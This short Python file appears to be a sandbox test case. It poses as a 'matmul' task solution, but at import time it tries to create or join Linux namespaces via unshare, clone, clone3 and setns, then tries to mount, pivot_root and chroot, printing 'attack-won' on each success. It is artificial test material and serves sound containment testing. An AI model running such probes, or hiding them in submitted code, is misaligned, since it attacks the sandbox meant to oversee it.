"""Makes user namespaces of its own by unshare, clone and clone3, joins others', and mounts what it is root of.

covers = ["nested user namespaces"]
task = "matmul"
verdict = "ACCEPTED"
"""

import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
USER, OTHERS = 0x10000000, (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x20000000, 0x40000000, 0x00000080)
for flags in (USER, *OTHERS, *(USER | one for one in OTHERS)):
    if libc.unshare(flags) == 0:
        print("attack-won: unshared", hex(flags))
for flags in (USER | 17, 17, 0x4000 | 0x100 | 17, USER | 0x00010000 | 0x100 | 0x800):
    pid = libc.syscall(56, ctypes.c_ulong(flags), 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid > 0:
        print("attack-won: cloned with", hex(flags))
arguments = (ctypes.c_uint64 * 11)(USER, 0, 0, 0, 17)
pid = libc.syscall(435, arguments, ctypes.sizeof(arguments))
if pid == 0:
    os._exit(0)
if pid > 0:
    print("attack-won: clone3")
for link in glob.glob("/proc/*/ns/*"):
    try:
        if libc.setns(os.open(link, os.O_RDONLY), 0) == 0:
            print("attack-won: joined", link)
    except OSError:
        pass
for call in ((b"none", b"/tmp", b"tmpfs", 0, None), (b"/", b"/tmp", None, 4096, None), (b"proc", b"/proc", b"proc", 0, None)):
    if libc.mount(*call) == 0:
        print("attack-won: mounted", call)
if libc.umount2(b"/tmp", 2) == 0 or libc.pivot_root(b"/", b"/tmp") == 0 or libc.chroot(b"/tmp") == 0:
    print("attack-won: changed the root")


def matmul(a, b):
    return a @ b
